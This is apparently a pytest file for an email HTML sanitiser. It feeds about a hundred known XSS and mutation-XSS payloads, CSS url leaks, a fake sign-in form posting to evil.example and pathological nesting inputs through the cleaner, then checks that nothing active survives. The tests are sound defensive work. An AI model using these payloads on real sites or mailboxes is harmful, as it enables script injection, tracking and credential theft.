"""The sanitiser against what is tried on them: nothing of it acts, and none asks for a file."""

import re
import time
from html.parser import HTMLParser

import pytest

from mailboxadmin.domain.body import Body, Piece, read_body
from mailboxadmin.domain.tangle import is_tangled
from mailboxadmin.services.reading.mail_html import clean
from mailboxadmin.services.reading.mail_links import links_in
from tests.support.inbox import page

#: Kinds of payload that public collections have; each in a way that once worked somewhere.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p id='</title><img src=x onerror=alert(1)>'><title>",
    "<style><a title='</style><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/mail/mark'>x</a>",
    "<a href='file:///etc/passwd' ping='https://evil.example'>x</a>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img srcset='https://evil.example/x 1x'>",
    "<img lowsrc='https://evil.example/x' dynsrc='https://evil.example/x'>",
    "<picture><source srcset='https://evil.example/x'></picture>",
    "<video src='https://evil.example/x' poster='https://evil.example/y' autoplay></video>",
    "<audio src='https://evil.example/x' autoplay onloadstart=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x'><param name=x></object>",
    "<embed src='https://evil.example/x'>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=prefetch href='https://evil.example/x'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href='https://evil.example/'><a href=x>x</a>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background='https://evil.example/x'>",
    "<table background='https://evil.example/x'><td background='https://evil.example/x'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style=\"background:url('https://evil.example/x')\">x</p>",
    '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    "<p style='background:url(/**/https://evil.example/x)'>x</p>",
    "<p style='background:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</p>",
    "<p style='cursor:url(https://evil.example/x),auto'>x</p>",
    "<p style='list-style:url(https://evil.example/x)'>x</p>",
    "<p style='content:url(https://evil.example/x)'>x</p>",
    "<div style='@import url(https://evil.example)'>x</div>",
    "<a style='pointer-events:none' href=https://a.example id=x name=y class=z>x</a>",
    "<p is=x-y slot=z contenteditable accesskey=x tabindex=1 autofocus>x</p>",
    "<portal src='https://evil.example'></portal>",
    "<dialog open><form method=dialog>x</form></dialog>",
    "<img usemap=#m src=x><map name=m><area href='javascript:alert(1)'></map>",
    "<frameset><frame src='https://evil.example'></frameset>",
    "<plaintext><script>alert(1)</script>",
    "<a href='https://a.example' target=_top>x</a>",
    "<a href='https://a.example' target=_self rel=opener>x</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a href=\"https://a.example/'onclick='alert(1)\">x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_ELEMENTS = frozenset(
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col"
    " colgroup data dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6"
    " header hgroup hr i img ins kbd li main mark nav ol p pre q rp rt rtc ruby s samp section"
    " small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u"
    " ul var wbr".split()
)
_NAMED = frozenset(
    "href src alt style dir lang title align valign bgcolor color face size width height border"
    " cellpadding cellspacing colspan rowspan nowrap span start type rel target".split()
)


class _Look(HTMLParser):
    """Everything that could act or ask for something."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            self._look(tag, name, (value or "").lower())

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def _look(self, tag: str, name: str, value: str) -> None:
        fine = {
            "href": tag == "a" and value.startswith(("https://", "http://", "mailto:")),
            "src": bool(re.match(r"data:image/(png|jpeg|gif|webp);base64,", value)),
            "style": not re.search(
                r"url|expression|[\\@]|position|z-index|behavior|image-set", value
            ),
            "target": value == "_blank",
            "rel": value == "noopener noreferrer nofollow",
        }.get(name, name in _NAMED)
        if not fine:
            self.faults.append(f"{tag} {name}={value}")


def cleaned(html: str, *, pictures: bool = False) -> str:
    body = Body(pieces=(Piece(is_html=True, text=html),), pictures={}, shown=frozenset(), cut=False)
    return clean(body, pictures=pictures).html


def faults(html: str) -> list[str]:
    look = _Look()
    look.feed(html)
    look.close()
    return look.faults


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around",
    ["{}", "<p>{}</p>", "<table><tr><td>{}", "<svg>{}", "<math>{}", "<style>{}", "<b><i>{}"],
)
def test_nothing_that_acts_comes_through(payload: str, around: str):
    html = cleaned(around.format(payload))

    assert faults(html) == []
    # What comes out is read again by the browser: it has to stay as it is.
    assert faults(cleaned(html)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_with_pictures_asked_for_nothing_but_pictures_comes_more(payload: str):
    found = [
        fault
        for fault in faults(cleaned(payload, pictures=True))
        if not re.match(r"img src=https?://", fault)
        and not re.match(r"\w+ style=[^;]*background[^;]*url\( ?['\"]?https?://[^()\\]*\)", fault)
    ]

    assert found == []


def test_a_letter_stays_readable():
    html = cleaned(
        '<h1 style="color:#123456;position:fixed">Hi</h1><table width="600" cellpadding="8"><tr>'
        '<td align="center" bgcolor="#ffffff"><a href="https://a.example/?a=1&amp;b=2">go</a></td>'
        "</tr></table><ul><li>one</li></ul><blockquote>said</blockquote>"
    )

    assert 'style="color: #123456"' in html
    assert 'href="https://a.example/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert all(f"<{tag}" in html for tag in ("table", "td", "ul", "li", "blockquote"))


def test_pictures_that_are_left_out_are_counted():
    source = (
        '<img src="https://a.example/1"><img src="cid:x">'
        "<p style=\"background:url('https://a.example/2')\">"
    )
    body = read_body(page(source))

    assert clean(body, pictures=False).blocked == 2
    assert clean(body, pictures=True).blocked == 0


@pytest.mark.parametrize(
    ("html", "plain"),
    [("<p>Hello <b>you</b></p>", True), ('<p style="color:red">x</p>', False), ("<p>x", True)],
)
def test_only_a_page_without_colours_may_be_shown_in_the_dark(html: str, plain: bool):
    assert clean(read_body(page(html)), pictures=False).plain is plain


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<span>" * 50_000 + "</b>" * 50_000,
        "".join(f"<b title={n}>" for n in range(20_000)) + "<p>x" * 20_000,
        "</b>" * 40_000 + "<b>" * 40_000 + "<p>" * 9_000,
        "<table><tr><td>" * 30_000,
        "<a>" * 60_000 + "<div>" * 400,
        "<" * 500_000,
        "<p " * 150_000,
        "<p title='" + "x" * 500_000,
        "&#" * 200_000,
    ],
    ids=range(10),
)
def test_what_is_entangled_takes_no_time(html: str):
    begun = time.monotonic()

    cleaned(html)

    assert time.monotonic() - begun < 30


def test_a_long_newsletter_is_not_entangled():
    row = "<tr><td><p>one<p>two<ul><li>a<li>b</ul><font color=red>x</font><br><img src=x></td></tr>"

    assert not is_tangled("<table>" + row * 1_000 + "</table>" + "<div>" * 100)


@pytest.mark.parametrize(
    ("text", "url", "misleads"),
    [
        ("www.bank.example", "https://evil.example/", "www.bank.example"),
        ("https://bank.example/login", "https://bank.example.evil.example/", "bank.example"),
        ("bank.example", "https://www.bank.example/x", ""),
        ("Read more", "https://anything.example/", ""),
        ("a@b.example", "mailto:c@d.example", ""),
        ("bank.example", "https://[::1", "bank.example"),
    ],
)
def test_a_link_that_names_another_place_is_told(text: str, url: str, misleads: str):
    (link,) = links_in(f'<a href="{url}">{text}</a>')

    assert link.misleads == misleads
